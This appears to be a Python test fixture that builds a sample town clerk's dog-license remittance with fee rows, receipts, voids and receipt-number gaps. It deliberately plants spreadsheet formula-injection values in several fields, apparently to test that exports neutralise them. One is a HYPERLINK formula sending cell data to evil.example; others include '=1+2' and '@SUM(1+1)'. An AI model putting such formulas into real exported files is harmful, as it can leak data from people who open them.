"""A remittance built from literals for the writers' tests: its totals are its fee rows'
and its receipts', so every file can be held to the same figures. ``stress`` gives the
longest names and the most rows a month can hold on paper."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

from clerkdesk.reports.documents import OfficeHeading
from clerkdesk.reports.remittance_data import (
    ZERO,
    FeeRow,
    Movement,
    NumberGap,
    NumberRange,
    ReceiptEntry,
    Remittance,
    Retention,
    Turnover,
    VoidRow,
    certification_text,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HEADING = OfficeHeading("Town of Westborough", "Office of the Town Clerk", "Bylaw 19")
LONG = "Bartholomew Maximilian Featherstonehaugh-Montgomery-Worthington"[:60]
D = Decimal
EASTERN = dt.timezone(dt.timedelta(hours=-5))


def _fees(voids: int, stress: bool) -> tuple[FeeRow, ...]:
    rows = [
        FeeRow(
            "01-240-4321", "dog_license", "Dog license", D("15.00"), 40, D("600.00"), 1, D("15")
        ),
        FeeRow(
            "01-240-4321",
            "dog_license",
            "Dog license",
            D("10.00"),
            60,
            D("600.00"),
            voids - 1,
            D("10.00") * (voids - 1),
        ),
        FeeRow(
            "01-240-4321",
            "dog_license",
            "Dog license",
            D("0.00"),
            7,
            ZERO,
            0,
            ZERO,
            "owner aged 70 or over, no fee (Bylaw 19 §11)",
        ),
        FeeRow("=1+2", "late_fee", "Late fee", D("3.00"), 3, D("9.00")),
        FeeRow("=1+2", "late_fee", "Late fee", D("1.00"), 25, D("25.00")),
        FeeRow("=1+2", "late_fee", "Late fee", D("0.50"), 1, D("0.50")),
    ]
    if stress:
        rows += [FeeRow("=1+2", "late_fee", "Late fee", D(n), 2, D(n) * 2) for n in range(2, 14)]
        rows.append(
            FeeRow(
                "Kennel licenses",
                "kennel_license",
                "Kennel license",
                ZERO,
                1,
                ZERO,
                0,
                ZERO,
                "licensed free (MGL c.140 §137A)",
            )
        )
    return tuple(rows)


def _by(fees: tuple[FeeRow, ...], key: str) -> tuple[Movement, ...]:
    keys = sorted({getattr(f, key) for f in fees})
    return tuple(
        Movement(
            k,
            k,
            sum((f.gross for f in fees if getattr(f, key) == k), ZERO),
            sum((f.voided_amount for f in fees if getattr(f, key) == k), ZERO),
            sum(f.net_count for f in fees if getattr(f, key) == k),
            0,
            sum(f.voided for f in fees if getattr(f, key) == k),
        )
        for k in keys
    )


def literal(voids: int = 1, *, stress: bool = False, locked: bool = False) -> Remittance:
    fees = _fees(voids, stress)
    gross = sum((f.gross for f in fees), ZERO)
    voided = sum((f.voided_amount for f in fees), ZERO)
    payer = LONG if stress else "-Jane Doe"
    void_rows = tuple(
        VoidRow(
            f"2026-{n + 1:06d}",
            HOSTILE if n == 0 else payer,
            dt.date(2026, 10, 30),
            dt.date(2026, 11, 3),
            "ann",
            "@SUM(1+1)" if n == 0 else "+wrong dog",
            D("15.00") if n == 0 else D("10.00"),
        )
        for n in range(voids)
    )
    receipts = 120 if stress else 41
    each = (gross / receipts).quantize(D("0.01"))
    entries = [
        ReceiptEntry(
            f"2026-{n:06d}",
            dt.date(2026, 11, 2 + n % 20),
            (LONG if stress and n % 3 == 0 else f"Pat Lee {n}"),
            "Check 4417 + Cash" if n % 4 == 0 else "Cash",
            each,
            dt.date(2026, 11, 3) if n == 101 else None,
        )
        for n in range(100, 100 + receipts - 1)
    ]
    entries.append(
        ReceiptEntry(
            f"2026-{100 + receipts - 1:06d}",
            dt.date(2026, 11, 30),
            "Jane Doe",
            "Cash",
            gross - each * (receipts - 1),
        )
    )
    retention = Retention(D("0.75"), 38, "MGL c.140 §147")
    due = gross - voided - retention.amount
    made = dt.datetime(2026, 12, 1, 9, 0, tzinfo=EASTERN)
    turnover = (
        (Turnover("2026-11", "TR-1101", dt.datetime(2026, 12, 2, 10, tzinfo=EASTERN), "Ann Smith"),)
        if locked
        else ()
    )
    clerk = LONG if stress else "Ann Smith"
    return Remittance(
        heading=HEADING,
        first_day=dt.date(2026, 11, 1),
        last_day=dt.date(2026, 11, 30),
        period_label="November 2026",
        made_at=made + dt.timedelta(days=20) if locked else made,
        receipt_count=receipts,
        gross=gross,
        accounts=_by(fees, "account"),
        fee_codes=_by(fees, "code"),
        tenders=(
            Movement("cash", "Cash", gross - D("1000.00"), ZERO, 12),
            Movement("check", "Check", D("1000.00"), voided, 28 - voids, 0, voids),
        ),
        voids=void_rows,
        number_ranges=(
            NumberRange(
                2026,
                100,
                100 + receipts + 1,
                receipts,
                (
                    NumberGap(2026, 120, 120, "posted to business day 12/01/2026", True),
                    NumberGap(2026, 130, 130, "unexplained — missing from the ledger", False),
                ),
            ),
        ),
        retention=retention,
        turnover=turnover,
        certification=certification_text(
            HEADING,
            dt.date(2026, 11, 1),
            dt.date(2026, 11, 30),
            clerk_name=clerk,
            due=due,
            retention=retention,
        ),
        fees=fees,
        receipts=tuple(entries),
        clerk_name=clerk,
        prepared_by="Ann Smith",
        locked=locked,
    )
